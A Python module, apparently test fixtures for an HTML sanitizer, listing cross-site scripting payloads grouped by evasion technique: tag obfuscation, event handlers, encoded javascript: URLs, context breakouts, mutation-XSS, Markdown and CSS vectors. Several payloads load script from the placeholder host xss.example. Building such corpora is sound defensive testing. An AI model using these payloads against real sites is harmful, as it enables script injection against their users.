"""Cross-site scripting payloads, grouped by the filter-evasion idea each one tries.

Written for this project after the classes of OWASP's filter-evasion cheat sheet: plain and obfuscated script
tags, event handlers, URL schemes hidden by case, entities, whitespace and control characters, attribute and
context breakouts (HTML, JSON-LD, XML, Markdown), parser-confusion (mXSS) shapes, and CSS-borne script.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg/onload=alert(1)>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<x onclick=alert(1)>click me",
    '<a href="#" onclick="alert(1)">link</a>',
    "<marquee onstart=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<img src=1 href=1 onerror="javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<p style=x onmouseover=alert(1)>hover</p>",
]

URL_TRICKS = [
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img srcset="javascript:alert(1) 1x">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<IMG DYNSRC="javascript:alert(\'XSS\')"><IMG LOWSRC="javascript:alert(\'XSS\')">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<a href="java\x00script:alert(1)">nul</a>',
]

BARE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    " \tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(\"XSS\")",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//xss.example/x.js",
    "livescript:alert(1)",
]

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](JaVaScRiPt:alert(1) \"title\")",
    "[a](&#106;avascript:alert(1))",
    '![x](/media/a.png "onerror=alert(1)")',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```",
]

CSS = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>*{background:url(\"javascript:alert(1)\")}</style>",
    '<td style="text-align:center;background:url(javascript:alert(1))">x</td>',
]

ALL = SCRIPT_TAGS + EVENT_HANDLERS + URL_TRICKS + BARE_URLS + BREAKOUTS + MARKDOWN + CSS
